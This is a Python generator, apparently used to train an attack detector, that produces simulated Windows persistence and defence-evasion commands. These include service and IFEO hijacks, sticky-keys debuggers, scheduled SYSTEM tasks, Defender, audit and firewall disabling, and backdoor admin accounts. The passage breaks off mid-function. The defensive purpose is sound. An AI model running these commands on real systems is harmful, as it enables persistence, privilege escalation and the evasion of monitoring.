"""Simulated Windows attacks seen as lone commands, part 2: the service, registry, scheduler, audit,
firewall, credential-store, remote-execution and tunnelling tools that single-technique recordings
show as one to three process creations under a parent the recording never saw start.

Why: `win_lone` covers account creation, group changes, WMI execution and a quick look around; labs
that record one technique per file show many more techniques as a lone `sc`, `reg add`, `schtasks`,
`netsh`, `auditpol`, `wevtutil`, `setspn`, `net use` or `tscon` line. Each generator here is written
from the public description of its technique id (MITRE ATT&CK technique pages, Atomic Red Team tests,
LOLBAS entries): what the command changes or reveals, with service and task names, paths (user-writable
folders via `Session.wdir`), values, argument order, quoting, how the tool is typed (bare, `.exe`, upper
case, full path) and PowerShell equivalents drawn at random. Their benign counterparts (installers,
admins and management agents typing the same tools for ordinary reasons) are in `win_benign_lone2`.
"""

from __future__ import annotations

from pipeline.training.sim.builder import Proc
from pipeline.training.sim.catalog import Registry
from pipeline.training.sim.session import Session
from pipeline.training.sim.vocab import Rand, powershell, sys32
from pipeline.training.sim.win_lone import _account, _integrity, _net, _password, lone_entry
from schemas.events import Platform

REG = Registry(Platform.WINDOWS)
add = REG.add

SYSTEM = "NT AUTHORITY\\SYSTEM"

# --- shared helpers ------------------------------------------------------------------------------


def _typed(r: Rand, exe: str, image: str) -> str:
    """How a tool is typed: bare name (most often), with `.exe`, upper case, or its full path."""
    style = r.rng.randrange(7)
    if style <= 2:
        return exe
    if style == 3:
        return f"{exe}.exe"
    if style == 4:
        return exe.upper()
    if style == 5:
        return image
    return f'"{image}"'


def _tool(s: Session, exe: str, args: str, *, image: str | None = None, via_shell: float = 0.3,
          integrity: str | None = None, user: str | None = None) -> Proc:
    """Run a System32 tool (or `image`) with `args`, typed in one of its usual spellings."""
    r = s.r
    image = image or sys32(r, f"{exe}.exe")
    return s.run(image, f"{_typed(r, exe, image)} {args}".rstrip(), via_shell=via_shell,
                 integrity=integrity or _integrity(r), user=user)


MAX_STARTS = 6
"""Process starts (conhost aside) a lone tree may have: each command can add a `cmd /c` wrapper and
`net1.exe`, so multi-command generators check `_room` before each further command."""


def _room(s: Session, need: int = 3) -> bool:
    """True if `need` more process starts keep the tree within MAX_STARTS."""
    started = [e for e in s.b.events if e.payload.kind == "process_start"
               and not (e.image or "").lower().endswith("conhost.exe")]
    return len(started) + need <= MAX_STARTS


def _q(r: Rand, text: str, p: float = 0.3) -> str:
    """Quote a value when it needs quotes, and sometimes when it does not."""
    return f'"{text}"' if " " in text or r.chance(p) else text


def _key(r: Rand, key: str) -> str:
    """A registry key as typed: short or long hive name, quoted or not."""
    hive, _, rest = key.partition("\\")
    if r.chance(0.15):
        hive = {"HKLM": "HKEY_LOCAL_MACHINE", "HKCU": "HKEY_CURRENT_USER"}.get(hive, hive)
    return _q(r, f"{hive}\\{rest}")


def _reg_add(s: Session, key: str, value: str, data: str, rtype: str = "REG_SZ", *,
             via_shell: float = 0.3, integrity: str | None = None) -> Proc:
    """`reg add KEY /v VALUE /t TYPE /d DATA /f`, options in varied order, and its registry write."""
    r = s.r
    parts = [f"/v {_q(r, value, 0.1)}", f"/t {rtype}", f"/d {_q(r, data)}", "/f"]
    if rtype == "REG_SZ" and r.chance(0.3):
        parts.remove("/t REG_SZ")
    if r.chance(0.1):
        parts.remove("/f")
    if r.chance(0.25):
        r.rng.shuffle(parts)
    proc = _tool(s, "reg", f"add {_key(r, key)} {' '.join(parts)}", via_shell=via_shell, integrity=integrity)
    if r.chance(0.7):
        s.b.reg(proc, f"{key}\\{value}", value, data)
    return proc


def _ps_path(key: str) -> str:
    hive, _, rest = key.partition("\\")
    return f"{hive}:\\{rest}"


def _set_value(s: Session, key: str, value: str, data: str, rtype: str = "REG_SZ", ps: float = 0.2, *,
               flags: str | None = None, integrity: str | None = None) -> Proc:
    """A registry value set with `reg add` or, sometimes, PowerShell's Set-/New-ItemProperty (`flags`:
    PowerShell's own switches, drawn by `Session.ps` when None)."""
    r = s.r
    if not r.chance(ps):
        return _reg_add(s, key, value, data, rtype, integrity=integrity)
    dword = rtype == "REG_DWORD"
    shown = data if dword else f"'{data}'"
    if r.chance(0.5):
        ptype = "DWord" if dword else r.pick(("String", "ExpandString"))
        line = f"New-ItemProperty -Path '{_ps_path(key)}' -Name '{value}' -Value {shown} -PropertyType {ptype} -Force"
    else:
        line = f"Set-ItemProperty -Path '{_ps_path(key)}' -Name '{value}' -Value {shown}"
    proc = s.ps(line, encoded=0.1 if flags is None else 0.0, flags=flags)
    if r.chance(0.5):
        s.b.reg(proc, f"{key}\\{value}", value, data)
    return proc


def _drop(s: Session, ext: str = "exe") -> str:
    """A payload path in a user-writable folder."""
    return f"{s.wdir()}\\{s.r.name(ext)}"


def _payload(s: Session) -> str:
    """A command a hijacked service, task or debugger runs: a dropped program, script or LOLBin."""
    r = s.r
    return r.pick((_drop(s), _drop(s), f"cmd.exe /c {_drop(s, 'bat')}", f"{_drop(s)} {r.pick(('-s', '/svc', '--run', 'start'))}",
                   f"powershell.exe -nop -w hidden -enc {r.b64(40, 160)}",
                   f"rundll32.exe {_drop(s, 'dll')},{r.pick(('Start', 'DllMain', '#1', 'Run'))}",
                   f"C:\\Windows\\System32\\cmd.exe /c {r.pick(('net user', 'net localgroup administrators'))} "
                   f"{_account(r)} {r.pick(('/add', _password(r) + ' /add'))}"))


_HIJACKABLE = ("Fax", "Spooler", "upnphost", "SSDPSRV", "wercplsupport", "IKEEXT", "RasMan", "SessionEnv", "AppMgmt",
               "seclogon", "TrkWks", "BITS", "dmwappushservice", "SNMPTRAP", "AJRouter", "PerfHost", "UevAgentService",
               "AppReadiness", "WSearch", "RemoteRegistry", "SensorService", "MSDTC", "wisvc", "XblGameSave", "lfsvc")


def _service(r: Rand) -> str:
    """A service to hijack: an existing Windows service (usually) or one the attacker made."""
    if r.chance(0.7):
        return r.pick(_HIJACKABLE)
    return r.pick((r.token(4, 9), f"{r.word().capitalize()}{r.word().capitalize()}", f"Win{r.word().capitalize()}Svc",
                   f"{r.word()}{r.num(1, 99)}"))


def _svc_key(name: str) -> str:
    return f"HKLM\\SYSTEM\\CurrentControlSet\\Services\\{name}"


def _sc(s: Session, args: str, *, user: str | None = None) -> Proc:
    return _tool(s, "sc", args, user=user)


def _start_service(s: Session, name: str) -> None:
    """The changed service is (re)started, with `sc start`, `net start` or `sc stop` first."""
    r = s.r
    choice = r.rng.randrange(3)
    if choice == 0:
        _sc(s, f"start {name}")
    elif choice == 1:
        _net(s, f"net start {name}")
    else:
        _sc(s, f"stop {name}")


def _dom(r: Rand) -> str:
    return r.token(3, 8) + r.pick((".local", ".corp", ".lan", ".int", ".com"))


# --- Persistence (TA0003) ------------------------------------------------------------------------

@add("T1574.011", "Persistence", entry=lone_entry, weight=2)
def lone2_service_failure(s: Session) -> None:
    """T1574.011 (and T1543.003): a service's recovery program is set to a payload, so the Service
    Control Manager runs it when the service fails (`sc failure SVC reset= N actions= run/MS command= PATH`
    or the service key's FailureCommand value), sometimes with `sc failureflag` or a look at `sc qfailure`."""
    r = s.r
    name = _service(r)
    if r.chance(0.2):
        _sc(s, f"qfailure {name}")
    if r.chance(0.8):
        actions = "/".join(f"run/{r.pick((0, 1000, 5000, 60000, r.num(1, 9) * 1000))}" for _ in range(r.pick((1, 1, 2, 3))))
        parts = [f"reset= {r.pick((0, 0, 1, 3600, 86400, r.num(10, 9999)))}", f"actions= {actions}",
                 f"command= {_q(r, _payload(s), 0.7)}"]
        if r.chance(0.3):
            r.rng.shuffle(parts)
        _sc(s, f"failure {name} {' '.join(parts)}")
    else:
        _set_value(s, _svc_key(name), "FailureCommand", _payload(s), ps=0.3)
    if r.chance(0.3):
        _sc(s, f"failureflag {name} 1")


@add("T1574.011", "Persistence", entry=lone_entry, weight=2)
def lone2_service_imagepath(s: Session) -> None:
    """T1574.011: a service's registry ImagePath (or a svchost service's Parameters\\ServiceDll) is
    rewritten to a payload in a user-writable folder, then sometimes the service is started."""
    r = s.r
    name = _service(r)
    if r.chance(0.75):
        _set_value(s, _svc_key(name), "ImagePath", _payload(s), r.pick(("REG_EXPAND_SZ", "REG_EXPAND_SZ", "REG_SZ")))
    else:
        _set_value(s, f"{_svc_key(name)}\\Parameters", "ServiceDll", _drop(s, "dll"), "REG_EXPAND_SZ")
    if r.chance(0.4):
        _start_service(s, name)


@add("T1543.003", "Persistence", entry=lone_entry, weight=2)
def lone2_service_binpath(s: Session) -> None:
    """T1543.003: an existing service is reconfigured to run a payload (`sc config SVC binpath= PATH`,
    often with `start= auto` and `obj= LocalSystem`), then started or stopped."""
    r = s.r
    name = _service(r)
    host = f"\\\\{r.pick(('127.0.0.1', 'localhost', r.host()))} " if r.chance(0.1) else ""
    binpath = f"binpath= {_q(r, _payload(s), 0.6)}"
    parts = [binpath]
    if r.chance(0.4):
        parts.append(f"start= {r.pick(('auto', 'auto', 'demand', 'delayed-auto'))}")
    if r.chance(0.3):
        parts.append("obj= " + r.pick(("LocalSystem", ".\\LocalSystem", '"NT AUTHORITY\\LocalService"')))
    if r.chance(0.2):
        parts.append("type= own")
    if r.chance(0.3):
        r.rng.shuffle(parts)
    if r.chance(0.15):
        s.ps(f"Set-Service -Name {name} -StartupType Automatic; sc.exe config {name} {binpath}", encoded=0.1)
    else:
        _sc(s, f"{host}config {name} {' '.join(parts)}")
    if r.chance(0.5):
        _start_service(s, name)


_SDDL_OPEN = ("(A;;CCLCSWRPWPDTLOCRRC;;;WD)", "(A;;RPWPCRCCDCLCLORCWOWDSDDTSW;;;WD)", "(A;;CCDCLCSWRPWPDTLOCRSDRCWDWO;;;BU)",
              "(A;;RPWPDTLOCRRC;;;AU)", "(A;;CCLCSWRPWPDTLOCRRC;;;IU)", "(A;;GA;;;WD)", "(A;;GA;;;AU)",
              "(A;;CCDCLCSWRPWPDTLOCRSDRCWDWO;;;WD)")
_SDDL_BASE = ("(A;;CCLCSWRPWPDTLOCRRC;;;SY)", "(A;;CCDCLCSWRPWPDTLOCRSDRCWDWO;;;BA)", "(A;;CCLCSWLOCRRC;;;IU)",
              "(A;;CCLCSWLOCRRC;;;SU)")
_SDDL_HIDE = ("(D;;DCLCWPDTSD;;;IU)", "(D;;DCLCWPDTSD;;;SU)", "(D;;DCLCWPDTSD;;;BA)")


@add("T1574.011", "Persistence", entry=lone_entry)
def lone2_service_sdset(s: Session) -> None:
    """T1574.011 / T1222.001: a service's security descriptor is rewritten with `sc sdset` so that
    Everyone, Authenticated or Built-in Users may reconfigure it (or, to hide it, so that
    interactive users and administrators are denied), often after reading it with `sc sdshow`."""
    r = s.r
    name = _service(r)
    if r.chance(0.35):
        _sc(s, f"sdshow {name}")
    if r.chance(0.2):
        aces = "".join(_SDDL_HIDE) + "".join(r.sample(_SDDL_BASE, r.num(1, 3)))
    else:
        aces = "".join(r.sample(_SDDL_BASE, r.num(1, 3))) + "".join(r.sample(_SDDL_OPEN, r.num(1, 2)))
    sacl = r.pick(("", "", "S:(AU;FA;CCDCLCSWRPWPDTLOCRSDRCWDWO;;;WD)"))
    sddl = f"D:{aces}{sacl}"
    _sc(s, f"sdset {name} {sddl if r.chance(0.4) else chr(34) + sddl + chr(34)}")


@add("T1546.007", "Persistence", entry=lone_entry)
def lone2_netsh_helper(s: Session) -> None:
    """T1546.007: a DLL is registered as a netsh helper (`netsh add helper PATH.dll`, or a value under
    HKLM\\SOFTWARE\\Microsoft\\NetSh), so every later netsh run loads it."""
    r = s.r
    dll = _drop(s, "dll")
    if r.chance(0.75):
        _tool(s, "netsh", f"add helper {_q(r, dll, 0.2)}")
    else:
        _set_value(s, "HKLM\\SOFTWARE\\Microsoft\\NetSh", r.pick((r.token(3, 8), r.word())), dll, ps=0.3)
    if r.chance(0.25):
        _tool(s, "netsh", r.pick(("show helper", "show helper", "advfirewall show currentprofile")))


_SPN_CLASSES = ("HTTP", "MSSQLSvc", "CIFS", "HOST", "ldap", "WSMAN", "TERMSRV", "exchangeAB", "FIMService", "www")


@add("T1098", "Persistence", entry=lone_entry)
def lone2_spn_set(s: Session) -> None:
    """T1098 (Kerberoast set-up, T1558.003): a service principal name is added to a user account the
    attacker controls or can crack (`setspn -a|-s CLASS/host account`, `Set-ADUser -ServicePrincipalNames`)."""
    r = s.r
    dom = _dom(r)
    host = r.pick((r.host().lower(), r.token(3, 8)))
    spn = f"{r.pick(_SPN_CLASSES)}/{host}{r.pick(('', '.' + dom))}{r.pick(('', '', ':' + str(r.pick((80, 1433, 8080, r.num(1024, 65000))))))}"
    account = r.pick((_account(r), r.user(), f"{dom.split('.')[0].upper()}\\{r.user()}"))
    if r.chance(0.8):
        flag = r.pick(("-a", "-s", "-A", "-S", "-U -S", "-U -A"))
        _tool(s, "setspn", f"{flag} {spn} {account}" if r.chance(0.85) else f"{flag} {account} {spn}")
    else:
        s.ps(f"Set-ADUser -Identity {account.rsplit(chr(92), 1)[-1]} -ServicePrincipalNames @{{Add='{spn}'}}", encoded=0.1)
    if r.chance(0.3):
        _tool(s, "setspn", f"{r.pick(('-L', '-l', '-Q'))} {account if r.chance(0.6) else spn}")


_ACCESSIBILITY = ("sethc.exe", "utilman.exe", "osk.exe", "Magnify.exe", "Narrator.exe", "DisplaySwitch.exe",
                  "AtBroker.exe")
_IFEO = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options"
_SPE = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit"


@add("T1546.008", "PrivilegeEscalation", entry=lone_entry)
def lone2_accessibility_debugger(s: Session) -> None:
    """T1546.008 (via T1546.012's IFEO key): an accessibility program reachable from the logon screen
    (sticky keys, Utility Manager, on-screen keyboard...) gets a Debugger, so pressing it runs a shell
    as SYSTEM."""
    r = s.r
    target = r.pick(_ACCESSIBILITY)
    debugger = r.pick(("C:\\Windows\\System32\\cmd.exe", "cmd.exe", "c:\\windows\\system32\\cmd.exe",
                       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", _drop(s),
                       "C:\\Windows\\System32\\taskmgr.exe", "explorer.exe"))
    _set_value(s, f"{_IFEO}\\{target}", "Debugger", debugger, ps=0.2)
    if r.chance(0.15):
        _set_value(s, f"{_IFEO}\\{r.pick(_ACCESSIBILITY)}", "Debugger", debugger, ps=0.0)


_IFEO_TARGETS = ("notepad.exe", "calc.exe", "chrome.exe", "msedge.exe", "winword.exe", "excel.exe", "outlook.exe",
                 "firefox.exe", "Taskmgr.exe", "mspaint.exe", "wordpad.exe", "explorer.exe", "svchost.exe",
                 "MsMpEng.exe", "procexp.exe", "procexp64.exe", "autoruns.exe")


@add("T1546.012", "Persistence", entry=lone_entry, weight=2)
def lone2_ifeo_persistence(s: Session) -> None:
    """T1546.012: Image File Execution Options persistence: a Debugger for an everyday program, or the
    SilentProcessExit monitor (GlobalFlag 0x200 on the program, ReportingMode 1 and MonitorProcess
    under SilentProcessExit) so a payload runs whenever the program exits."""
    r = s.r
    target = r.pick(_IFEO_TARGETS)
    payload = _payload(s)
    if r.chance(0.4):
        _set_value(s, f"{_IFEO}\\{target}", "Debugger", payload, ps=0.15)
        return
    steps = [(f"{_IFEO}\\{target}", "GlobalFlag", r.pick(("512", "0x200")), "REG_DWORD"),
             (f"{_SPE}\\{target}", "ReportingMode", "1", "REG_DWORD"),
             (f"{_SPE}\\{target}", "MonitorProcess", payload, "REG_SZ")]
    for key, value, data, rtype in r.sample(steps, r.pick((1, 2, 3, 3))):
        if _room(s, 2):
            _set_value(s, key, value, data, rtype, ps=0.1)


_WINLOGON = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon"


@add("T1547.004", "Persistence", entry=lone_entry)
def lone2_winlogon_helper(s: Session) -> None:
    """T1547.004: Winlogon helper values run a payload at logon: Userinit gets a second program after
    userinit.exe, Shell a second one after explorer.exe (HKLM or the user's HKCU key), or a Notify DLL."""
    r = s.r
    payload = _drop(s, r.pick(("exe", "exe", "bat")))
    choice = r.rng.randrange(4)
    if choice == 0:
        userinit = r.pick(("C:\\Windows\\system32\\userinit.exe", "C:\\WINDOWS\\system32\\userinit.exe", "userinit.exe"))
        data = f"{userinit},{payload}"
        _set_value(s, _WINLOGON, "Userinit", data)
    elif choice == 1:
        _set_value(s, _WINLOGON, "Shell", f"explorer.exe{r.pick((',', ', ', ' '))}{payload}")
    elif choice == 2:
        _set_value(s, _WINLOGON.replace("HKLM", "HKCU", 1), "Shell", r.pick((payload, f"explorer.exe,{payload}")))
    else:
        _set_value(s, f"{_WINLOGON}\\Notify\\{r.token(4, 8)}", "DLLName", _drop(s, "dll"))


_WINDOWS_KEY = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Windows"


@add("T1546.010", "Persistence", entry=lone_entry)
def lone2_appinit_dlls(s: Session) -> None:
    """T1546.010: AppInit_DLLs: a DLL is listed in AppInit_DLLs (64- or 32-bit key), loading is turned
    on (LoadAppInit_DLLs 1) and signing no longer required (RequireSignedAppInit_DLLs 0)."""
    r = s.r
    key = _WINDOWS_KEY if r.chance(0.7) else _WINDOWS_KEY.replace("SOFTWARE\\", "SOFTWARE\\Wow6432Node\\", 1)
    steps = [("AppInit_DLLs", _drop(s, "dll"), "REG_SZ"), ("LoadAppInit_DLLs", "1", "REG_DWORD"),
             ("RequireSignedAppInit_DLLs", "0", "REG_DWORD")]
    chosen = [steps[0], *r.sample(steps[1:], r.num(0, 2))]
    if r.chance(0.3):
        r.rng.shuffle(chosen)
    for value, data, rtype in chosen:
        if _room(s, 2):
            _set_value(s, key, value, data, rtype)


def _task_name(r: Rand) -> str:
    name = r.pick((f"{r.word().capitalize()}{r.word().capitalize()}", r.token(5, 10), f"{r.word()}{r.num(1, 99)}",
                   f"Microsoft\\Windows\\{r.word().capitalize()}\\{r.word().capitalize()}", "OneDrive Standalone Update",
                   f"GoogleUpdateTask{r.token(4, 6)}", f"{{{r.hexstr(8).upper()}}}", "WindowsUpdate", "SystemCheck"))
    return name


@add("T1053.005", "Persistence", entry=lone_entry, weight=2)
def lone2_schtasks_persist(s: Session) -> None:
    """T1053.005: a scheduled task runs a payload from a user-writable folder at logon, at start-up or
    every few minutes, often as SYSTEM with highest run level (`schtasks /create ... /ru SYSTEM /f`,
    or Register-ScheduledTask)."""
    r = s.r
    name, payload = _task_name(r), _payload(s)
    schedule = r.pick(("/sc onlogon", "/sc onstart", f"/sc minute /mo {r.num(1, 60)}", f"/sc hourly /mo {r.num(1, 6)}",
                       f"/sc daily /st {r.num(0, 23):02d}:{r.num(0, 59):02d}", "/sc onidle /i 10", "/SC ONLOGON",
                       "/sc ONSTART"))
    if r.chance(0.8):
        tr = _q(r, payload, 0.6)
        parts = [f"/tn {_q(r, name)}", f"/tr {tr}", schedule]
        if r.chance(0.65):
            parts.append(r.pick(("/ru SYSTEM", "/ru system", '/ru "NT AUTHORITY\\SYSTEM"', "/RU SYSTEM")))
        if r.chance(0.4):
            parts.append(r.pick(("/rl highest", "/RL HIGHEST")))
        if r.chance(0.7):
            parts.append(r.pick(("/f", "/F")))
        if r.chance(0.3):
            r.rng.shuffle(parts)
        _tool(s, "schtasks", f"{r.pick(('/create', '/Create', '/CREATE'))} {' '.join(parts)}")
    else:
        trigger = r.pick(("-AtLogOn", "-AtStartup", "-Once -At (Get-Date) -RepetitionInterval (New-TimeSpan -Minutes 5)"))
        exe, _, arg = payload.partition(" ")
        action = f"New-ScheduledTaskAction -Execute '{exe}'" + (f" -Argument '{arg}'" if arg else "")
        principal = r.pick((" -User 'SYSTEM'", " -User 'NT AUTHORITY\\SYSTEM' -RunLevel Highest", ""))
        s.ps(f"Register-ScheduledTask -TaskName '{name}' -Action ({action}) -Trigger (New-ScheduledTaskTrigger {trigger})"
             f"{principal} -Force", encoded=0.15)
    if r.chance(0.2):
        _tool(s, "schtasks", f"/run /tn {_q(r, name)}")


@add("T1053.002", "Persistence", entry=lone_entry)
def lone2_at_job(s: Session) -> None:
    """T1053.002: the legacy `at` scheduler runs a payload at a time (every day with /every:, or
    /interactive), locally or on a remote host."""
    r = s.r
    when = f"{r.num(0, 23):02d}:{r.num(0, 59):02d}{r.pick(('', '', 'am', 'pm', 'A', 'P'))}"
    flags = " ".join(r.sample((f"/every:{r.pick(('M,T,W,Th,F', 'M,T,W,Th,F,S,Su', str(r.num(1, 28)), 'Su'))}",
                               "/interactive", f"/next:{r.pick(('M', 'F', str(r.num(1, 28))))}"), r.pick((0, 1, 1, 2))))
    remote = f"\\\\{r.pick((r.host(), r.int_ip()))} " if r.chance(0.2) else ""
    command = r.pick((_payload(s), f"cmd /c {_drop(s, 'bat')}", f'"{_drop(s)}"', "cmd.exe"))
    _tool(s, "at", " ".join(filter(None, (remote.strip(), when, flags, command))))
    if r.chance(0.2):
        _tool(s, "at", remote.strip())


@add("T1574", "Persistence", entry=lone_entry)
def lone2_dns_plugin(s: Session) -> None:
    """T1574 (DNSAdmins abuse): the DNS server is told to load a plugin DLL (`dnscmd SERVER /config
    /serverlevelplugindll PATH` or the ServerLevelPluginDll value), often from a share, then restarted."""
    r = s.r
    dll = r.pick((f"\\\\{r.pick((r.int_ip(), r.host()))}\\{r.pick(('share', 'tools', 'c$', 'tmp', r.token(3, 6)))}\\{r.name('dll')}",
                  _drop(s, "dll")))
    if r.chance(0.75):
        server = r.pick(("", "", r.host().lower(), f"{r.host().lower()}.{_dom(r)}", "localhost", "."))
        _tool(s, "dnscmd", " ".join(filter(None, (server, "/config", "/serverlevelplugindll", _q(r, dll, 0.2)))))
    else:
        _set_value(s, f"{_svc_key('DNS')}\\Parameters", "ServerLevelPluginDll", dll, ps=0.3)
    if r.chance(0.4):
        for verb in r.pick((("stop",), ("start",), ("stop", "start"))):
            if _room(s):
                _sc(s, f"{verb} dns") if r.chance(0.5) else _net(s, f"net {verb} dns")


# --- DefenseEvasion (TA0005) ---------------------------------------------------------------------

_DEF_POLICY = "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender"
_DEF_RTP = _DEF_POLICY + "\\Real-Time Protection"
_DEF_VALUES = ((_DEF_POLICY, "DisableAntiSpyware"), (_DEF_POLICY, "DisableAntiVirus"),
               (_DEF_POLICY, "DisableRoutinelyTakingAction"), (_DEF_POLICY, "ServiceKeepAlive"),
               (_DEF_RTP, "DisableRealtimeMonitoring"), (_DEF_RTP, "DisableBehaviorMonitoring"),
               (_DEF_RTP, "DisableOnAccessProtection"), (_DEF_RTP, "DisableScanOnRealtimeEnable"),
               (_DEF_RTP, "DisableIOAVProtection"), (_DEF_POLICY + "\\Spynet", "SpynetReporting"),
               (_DEF_POLICY + "\\Spynet", "SubmitSamplesConsent"),
               ("HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Features", "TamperProtection"))
_MP_PREFS = ("-DisableRealtimeMonitoring $true", "-DisableBehaviorMonitoring $true", "-DisableIOAVProtection $true",
             "-DisableScriptScanning $true", "-DisableBlockAtFirstSeen $true", "-MAPSReporting 0",
             "-SubmitSamplesConsent 2", "-DisableArchiveScanning $true", "-PUAProtection disable",
             "-DisableIntrusionPreventionSystem $true", "-EnableControlledFolderAccess Disabled",
             "-DisableRealtimeMonitoring 1")


@add("T1562.001", "DefenseEvasion", entry=lone_entry, weight=2)
def lone2_defender_off(s: Session) -> None:
    """T1562.001: Microsoft Defender is weakened: policy values (DisableAntiSpyware,
    DisableRealtimeMonitoring, ...) set with reg add, Set-MpPreference switches, or exclusions for the
    attacker's folder, process or extension (Add-MpPreference, Exclusions\\Paths)."""
    r = s.r
    for _ in range(r.pick((1, 1, 2, 3))):
        if not _room(s, 2):
            break
        choice = r.rng.randrange(4)
        if choice == 0:
            key, value = r.pick(_DEF_VALUES)
            on = value in ("ServiceKeepAlive", "SpynetReporting", "TamperProtection")
            data = "0" if on else r.pick(("1", "1", "2")) if value == "SubmitSamplesConsent" else "1"
            _set_value(s, key, value, data, "REG_DWORD", ps=0.15)
        elif choice == 1:
            prefs = " ".join(r.sample(_MP_PREFS, r.pick((1, 1, 2, 3))))
            s.ps(f"Set-MpPreference {prefs}{r.pick(('', '', ' -Force'))}", encoded=0.1)
        elif choice == 2:
            what = r.pick((f"-ExclusionPath '{s.wdir()}'", "-ExclusionPath 'C:\\'", f"-ExclusionProcess '{r.name('exe')}'",
                           f"-ExclusionExtension '{r.pick(('exe', 'dll', 'ps1', '.bin', 'tmp'))}'",
                           f"-ExclusionPath {s.wdir()}"))
            s.ps(f"Add-MpPreference {what}{r.pick(('', ' -Force'))}", encoded=0.1)
        else:
            kind = r.pick(("Paths", "Paths", "Processes", "Extensions"))
            name = {"Paths": s.wdir(), "Processes": r.name("exe"), "Extensions": r.pick(("exe", "dll", "ps1"))}[kind]
            _set_value(s, f"{_DEF_POLICY}\\Exclusions\\{kind}", name, "0", "REG_DWORD", ps=0.1)
        s.b.tick(0.5, 20.0)


_AUDIT_CATEGORIES = ("Logon/Logoff", "Account Logon", "Account Management", "Detailed Tracking", "DS Access",
                     "Object Access", "Policy Change", "Privilege Use", "System")
_AUDIT_SUBCATEGORIES = ("Process Creation", "Logon", "Logoff", "Special Logon", "Security Group Management",
                        "User Account Management", "Audit Policy Change", "Security State Change", "Other Object Access Events",
                        "Kerberos Service Ticket Operations", "Credential Validation", "Directory Service Changes",
                        "File System", "Registry", "Sensitive Privilege Use", "Filtering Platform Connection")


@add("T1562.002", "DefenseEvasion", entry=lone_entry)
def lone2_auditpol_off(s: Session) -> None:
    """T1562.002: Windows auditing is switched off: `auditpol /set` with /success:disable
    /failure:disable on a category or subcategory, a per-user policy removed (`auditpol /remove`)."""
    r = s.r
    for _ in range(r.pick((1, 1, 2))):
        choice = r.rng.randrange(5)
        if choice <= 1:
            scope = f'/category:"{r.pick(_AUDIT_CATEGORIES)}"' if choice == 0 else f'/subcategory:"{r.pick(_AUDIT_SUBCATEGORIES)}"'
            flags = r.pick(("/success:disable /failure:disable", "/failure:disable /success:disable", "/success:disable",
                            "/failure:disable"))
            args = f"/set {scope} {flags}" if r.chance(0.8) else f"/set {flags} {scope}"
        elif choice == 2:
            args = f"/set /category:* {r.pick(('/success:disable /failure:disable', '/success:disable'))}"
        elif choice == 3:
            args = r.pick(("/remove /allusers", "/remove /AllUsers", f"/remove /user:{r.pick((s.user, _account(r), 'Administrator'))}"))
        else:
            args = f'/set /user:{r.pick((s.user, _account(r)))} /category:"{r.pick(_AUDIT_CATEGORIES)}" /exclude:enable'
        _tool(s, "auditpol", args)


_ATTACK_PORTS = (4444, 4445, 1337, 31337, 8080, 8443, 9001, 5985, 5986, 3389, 445, 22, 2222, 53, 443, 1080, 5900)


def _rule_name(r: Rand) -> str:
    return r.pick((r.token(3, 10), f"{r.word().capitalize()} {r.word().capitalize()}", f"Allow {r.word()}",
                   f"Windows {r.word().capitalize()}", f"{r.word()}{r.num(1, 999)}", "Remote Access", "Core Networking"))


@add("T1562.004", "DefenseEvasion", entry=lone_entry, weight=2)
def lone2_firewall_open(s: Session) -> None:
    """T1562.004: the host firewall is opened for an attacker's tool or listener: an inbound allow
    rule for a port or a program in a user-writable folder (netsh advfirewall, the legacy netsh firewall,
    New-NetFirewallRule), or a profile turned off."""
    r = s.r
    port = r.pick((*_ATTACK_PORTS, r.num(1024, 65535)))
    name = _rule_name(r)
    program = _drop(s)
    choice = r.rng.randrange(6)
    if choice <= 2:
        parts = [f"name={_q(r, name, 0.5)}", f"dir={r.pick(('in', 'in', 'out'))}", "action=allow"]
        if choice == 0 or r.chance(0.3):
            parts += [f"protocol={r.pick(('TCP', 'tcp', 'UDP', 'any'))}", f"localport={port}"]
        if choice != 0:
            parts.append(f"program={_q(r, program, 0.6)}")
        for extra in ("enable=yes", "profile=any", "remoteip=any", "edge=yes"):
            if r.chance(0.2):
                parts.append(extra)
        if r.chance(0.3):
            r.rng.shuffle(parts)
        _tool(s, "netsh", f"advfirewall firewall add rule {' '.join(parts)}")
    elif choice == 3:
        line = r.pick((f"firewall add portopening {r.pick(('TCP', 'tcp', 'ALL'))} {port} {_q(r, name)}",
                       f"firewall add allowedprogram {_q(r, program)} {_q(r, name)} ENABLE",
                       f"firewall set portopening protocol=TCP port={port} name={_q(r, name)} mode=ENABLE scope=ALL",
                       "firewall set opmode mode=disable", "firewall set opmode disable"))
        _tool(s, "netsh", line)
    elif choice == 4:
        what = r.pick((f"-LocalPort {port} -Protocol TCP", f"-Program '{program}'", f"-LocalPort {port} -Protocol UDP"))
        s.ps(f"New-NetFirewallRule -DisplayName '{name}' -Direction Inbound {what} -Action Allow"
             f"{r.pick(('', ' -Profile Any', ' -Enabled True'))}", encoded=0.1)
    else:
        profile = r.pick(("currentprofile", "domainprofile", "privateprofile", "publicprofile", "allprofiles"))
        if r.chance(0.7):
            _tool(s, "netsh", f"advfirewall set {profile} state {r.pick(('off', 'off', 'OFF'))}")
        else:
            s.ps(f"Set-NetFirewallProfile -Profile {r.pick(('Domain,Public,Private', 'Public', 'Domain'))} -Enabled False",
                 encoded=0.1)


_LOGS = ("Security", "System", "Application", "Windows PowerShell", "Microsoft-Windows-Sysmon/Operational",
         "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-TaskScheduler/Operational",
         "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational", "Microsoft-Windows-Windows Defender/Operational",
         "Microsoft-Windows-WMI-Activity/Operational", "Setup")


@add("T1562.002", "DefenseEvasion", entry=lone_entry)
def lone2_eventlog_disable(s: Session) -> None:
    """T1562.002: an event log channel is disabled or starved (`wevtutil sl CHANNEL /e:false`, a tiny
    /ms: size), or the EventLog service / its autologger session is turned off."""
    r = s.r
    log = r.pick(_LOGS)
    choice = r.rng.randrange(4)
    if choice <= 1:
